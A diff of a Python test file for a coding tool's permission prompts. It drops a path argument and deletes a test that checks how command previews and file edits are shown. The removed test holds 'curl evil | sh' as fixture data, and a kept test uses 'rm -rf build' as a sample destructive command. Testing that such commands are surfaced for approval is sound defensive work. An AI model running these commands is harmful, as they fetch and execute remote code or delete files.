@@ -1,5 +1,3 @@
-from pathlib import Path
-
 from acp import RequestError
 from acp.schema import (
     AllowedOutcome,
@@ -8,7 +6,6 @@ from acp.schema import (
 )
 
 from kode.permissions.question import Question
-from kode.plain_text import unified_diff
 from kode.plugins.acp.choices import ask_permission, permission_options
 
 GONE = ConnectionError("gone")
@@ -39,7 +36,7 @@ def question(**more):
 
 
 async def ask(client, asked):
-    return (await ask_permission(client, "s", asked, None, Path("/p"))).choice
+    return (await ask_permission(client, "s", asked, None)).choice
 
 
 def select(option):
@@ -65,20 +62,6 @@ async def test_a_question_says_who_asks_what_is_lost_and_why():
     assert why == "Run this command?\nbuild would be gone.\nIt deletes files."
     assert what == "rm -rf build"
     assert [one.option_id for one in options] == ["once", "no"]
-
-
-async def test_changes_of_a_command_show_old_and_new_text():
-    client = Client(GONE)
-    diff = unified_diff("a.txt", "one\n", "two\n")
-
-    await ask(client, question(preview=f"changed a.txt\n\n{diff}", diff=diff))
-    await ask(client, question(preview=f"patch <<E\n{diff}E\ncurl evil | sh"))
-
-    _, names, edit = client.got[0].content
-    assert names.content.text == "changed a.txt"
-    assert (edit.path, edit.old_text, edit.new_text) == ("/p/a.txt", "one\n", "two\n")
-    _, command = client.got[2].content
-    assert "curl evil | sh" in command.content.text
 
 
 def test_a_lasting_answer_names_the_rules_it_adds():
